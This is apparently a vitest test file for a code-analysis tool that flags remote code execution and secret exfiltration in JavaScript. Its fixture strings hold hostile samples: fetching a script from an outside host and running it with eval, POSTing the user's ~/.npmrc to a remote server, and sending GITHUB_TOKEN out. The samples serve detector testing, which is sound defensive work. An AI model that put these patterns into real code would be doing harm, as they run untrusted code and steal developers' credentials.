import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

const FETCH_TEXT = `const http = require('node:http');
function fetchText(url) {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      let body = '';
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}
`;

describe('javascript: what a promise executor resolves, and URLs shipped as an environment default', () => {
  it('gives await the value the executor passed to resolve (a response body)', async () => {
    const code = `${FETCH_TEXT}async function main() {\n  const src = await fetchText('http://stubs.orders-lab.net/s.cjs');\n  eval(src);\n}\nmain();\n`;
    const run = ofKind(await factsOf('javascript', code), 'execute')[0];
    expect(run?.code.taints).toContain('download');
    expect(run?.endpoint?.host).toBe('stubs.orders-lab.net');
  });

  it('leaves a promise whose executor resolves nothing unknown', async () => {
    const code = `const p = new Promise((resolve) => setTimeout(resolve, 10));\nasync function main() { eval(await p); }\nmain();\n`;
    const run = ofKind(await factsOf('javascript', code), 'execute')[0];
    expect(run?.code.taints ?? []).not.toContain('download');
  });

  it('takes the shipped default of `process.env.X || url` as the host', async () => {
    const code = `const server = process.env.STUB_SERVER || 'http://stubs.orders-lab.net:8081';\nfetch(server + '/v1', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') });\n`;
    const send = ofKind(await factsOf('javascript', code), 'send')[0];
    expect(send?.endpoint?.host).toBe('stubs.orders-lab.net');
  });

  it('keeps a secret variable with a default a secret read', async () => {
    const code = `const token = process.env.GITHUB_TOKEN || 'https://example.invalid';\nfetch('https://api.drift-sync.net/t', { method: 'POST', body: token });\n`;
    const send = ofKind(await factsOf('javascript', code), 'send')[0];
    expect(send?.data.secret).toBeDefined();
  });
});
